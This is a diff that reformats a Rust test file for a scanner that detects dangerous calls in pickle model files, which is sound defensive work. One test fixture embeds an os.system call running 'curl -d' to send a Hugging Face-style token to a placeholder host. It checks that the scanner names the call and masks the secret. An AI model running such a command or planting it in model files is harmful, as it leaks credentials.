@@ -21,7 +21,9 @@ impl Sink for Findings {
     fn raw(&mut self) {}
     fn name(&mut self, _: &Route, _: &str) {}
     fn fact(&mut self, route: &Route, fact: &Fact<'_>) {
-        super::fact("model.bin", route, fact, &mut |finding| self.0.push(finding));
+        super::fact("model.bin", route, fact, &mut |finding| {
+            self.0.push(finding)
+        });
     }
 }
 
@@ -29,7 +31,12 @@ fn findings(bytes: &[u8]) -> Vec<Finding> {
     let mut found = Findings::default();
     let size = bytes.len() as u64;
     let kind = Kind::sniff("model.bin", &bytes[..bytes.len().min(8192)], size);
-    assert_eq!(kind, Kind::Pickle, "{:?}", String::from_utf8_lossy(&bytes[..bytes.len().min(60)]));
+    assert_eq!(
+        kind,
+        Kind::Pickle,
+        "{:?}",
+        String::from_utf8_lossy(&bytes[..bytes.len().min(60)])
+    );
     let mut reader = Cursor::new(bytes.to_vec());
     extract(&mut reader, size, kind, &Limits::default(), &mut found).unwrap();
     found.0
@@ -37,9 +44,9 @@ fn findings(bytes: &[u8]) -> Vec<Finding> {
 
 /// The worst finding, in the words of the table.
 fn verdict(bytes: &[u8]) -> String {
-    let worst = findings(bytes).into_iter().max_by_key(|finding| {
-        (finding.rule == super::DANGEROUS.id, finding.severity)
-    });
+    let worst = findings(bytes)
+        .into_iter()
+        .max_by_key(|finding| (finding.rule == super::DANGEROUS.id, finding.severity));
     worst.map_or("clean".to_owned(), |finding| {
         let class = finding.rule.strip_suffix("-pickle").unwrap_or_default();
         format!("{} {class}", finding.severity)
@@ -61,7 +68,10 @@ fn every_mechanism_has_its_verdict() {
 fn evidence_names_the_call_and_masks_its_secrets() {
     let token = format!("hf_{}", "aB3d".repeat(8));
     let command = format!("curl -d {token} http://example.org");
-    let found = findings(&stream(2, &call(&global("os", "system"), &[text(&command)])));
+    let found = findings(&stream(
+        2,
+        &call(&global("os", "system"), &[text(&command)]),
+    ));
     let [finding] = &found[..] else {
         panic!("{} findings", found.len());
     };
